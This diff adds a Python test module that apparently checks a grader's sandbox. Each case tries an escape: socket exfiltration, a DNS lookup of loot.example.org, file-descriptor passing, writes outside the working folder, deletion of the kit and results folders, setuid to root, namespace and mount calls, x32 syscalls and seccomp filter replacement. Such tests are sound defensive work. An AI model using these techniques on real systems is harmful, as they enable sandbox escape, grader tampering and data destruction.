@@ -1,0 +1,172 @@
+"""Nothing gets out: no network, no file outside of the working folder, no rights beyond a worker's."""
+
+from __future__ import annotations
+
+from .catalogue import attack
+
+
+@attack("connects by TCP", says="network")
+def connects_by_tcp(values, scale, known):
+    import socket
+
+    socket.create_connection(("127.0.0.1", known["tcp port"]), timeout=1).sendall(b"LEAKED")
+
+
+@attack("sends a datagram by UDP", says="network")
+def sends_by_udp(values, scale, known):
+    import socket
+
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAKED", ("127.0.0.1", known["udp port"]))
+
+
+@attack("connects by IPv6, raw, packet, netlink and Bluetooth sockets")
+def tries_other_sockets(values, scale, known):
+    import socket
+
+    for family in (10, 16, 17, 31, 38, 40, 44):
+        for kind in (1, 2, 3):
+            try:
+                socket.socket(family, kind)
+                print("LEAKED", family, kind)
+            except OSError:
+                print("refused")
+
+
+@attack("connects to a Unix socket, by path and by abstract name", says="network")
+def connects_to_unix_sockets(values, scale, known):
+    import socket
+
+    for name in (known["unix path"], "\0" + known["unix name"]):
+        socket.socket(socket.AF_UNIX).connect(name)
+
+
+@attack("asks a name server, which carries data out")
+def asks_a_name_server(values, scale, known):
+    import socket
+
+    print("LEAKED", socket.getaddrinfo("loot.example.org", 80))
+
+
+@attack("uses the pair of sockets that it may have to reach others")
+def misuses_a_socket_pair(values, scale, known):
+    import socket
+
+    one, _other = socket.socketpair()
+    try:
+        one.connect(known["unix path"])
+        print("LEAKED")
+    finally:
+        socket.socketpair(socket.AF_INET, socket.SOCK_STREAM)
+
+
+@attack("sends its descriptors, and a wish for the grader's, over the wire", sees=("crashed", "failed"))
+def passes_descriptors(values, scale, known):
+    import array
+    import socket
+
+    wire = socket.socket(fileno=3)
+    wire.sendmsg([b"RLG1"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))])
+    print(wire.recvmsg(100, 1000))
+
+
+@attack("writes outside of its folder")
+def writes_elsewhere(values, scale, known):
+    import os
+
+    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/", "..", known["results"], known["kit"], os.path.expanduser("~root")):
+        try:
+            open(os.path.join(folder, "loot-file"), "w").write("LEAKED")
+            print("LEAKED", folder)
+        except OSError:
+            print("refused")
+
+
+@attack("writes outside through links it makes")
+def writes_through_links(values, scale, known):
+    import os
+
+    os.symlink(known["results"], "results")
+    try:
+        open("results/loot-link", "w").write("LEAKED")
+        print("LEAKED")
+    except OSError:
+        print("refused")
+    os.link(known["hidden"][0], "hidden")
+    print(open("hidden").read())
+
+
+@attack("removes, renames and locks what it can reach")
+def damages_files(values, scale, known):
+    import os
+    import shutil
+
+    for path in (known["kit"], known["results"], known["other submission"], os.path.dirname(os.getcwd())):
+        for act in (
+            shutil.rmtree,
+            lambda p: os.chmod(p, 0),
+            lambda p: os.utime(p, (0, 0)),
+            lambda p: os.rename(p, p + "-loot"),
+        ):
+            try:
+                act(path)
+                print("LEAKED", path)
+            except OSError:
+                print("refused")
+
+
+@attack("becomes root again, or another user")
+def regains_rights(values, scale, known):
+    import os
+
+    attempts = (
+        lambda: os.setresuid(0, 0, 0),
+        lambda: os.setresgid(0, 0, 0),
+        lambda: os.setgroups([0, 1, 2]),
+        lambda: os.chroot("."),
+    )
+    for act in attempts:
+        try:
+            before = os.getresuid(), os.getresgid(), os.getgroups()
+            act()
+            print("LEAKED" if (os.getresuid(), os.getresgid(), os.getgroups()) != before else "as before")
+        except OSError:
+            print("refused")
+
+
+@attack("leaves its namespaces, mounts, makes devices")
+def leaves_namespaces(values, scale, known):
+    import ctypes
+    import os
+
+    libc = ctypes.CDLL(None)
+    tried = [
+        libc.unshare(0x10000000),
+        libc.unshare(0x00020000),
+        libc.mount(b"none", b".", b"tmpfs", 0, None),
+        libc.syscall(425, 1, 0),
+        libc.syscall(438, 0, 0, 0),
+        libc.personality(0x0040000),
+        libc.mknod(b"disk", 0o060666, 0x800),
+    ]
+    print("LEAKED" if any(result >= 0 for result in tried) else "refused")
+    os.listdir("/proc/1/root/")
+
+
+@attack("calls the kernel by numbers of another architecture", sees=("failed", "crashed"))
+def uses_other_numbers(values, scale, known):
+    import ctypes
+
+    # x32: bit 30; 41 is socket, 57 is fork
+    made = [ctypes.CDLL(None).syscall(0x40000000 + 41, 2, 2, 0), ctypes.CDLL(None).syscall(0x40000000 + 57)]
+    print("LEAKED" if max(made) >= 0 else "refused")
+
+
+@attack("takes the seat of the filter: a filter of its own, or none")
+def changes_the_filter(values, scale, known):
+    import ctypes
+
+    libc = ctypes.CDLL(None)
+    print("LEAKED" if libc.prctl(22, 0, 0, 0, 0) == 0 or libc.syscall(317, 0, 0, 0) == 0 else "refused")
+    import socket
+
+    socket.socket()
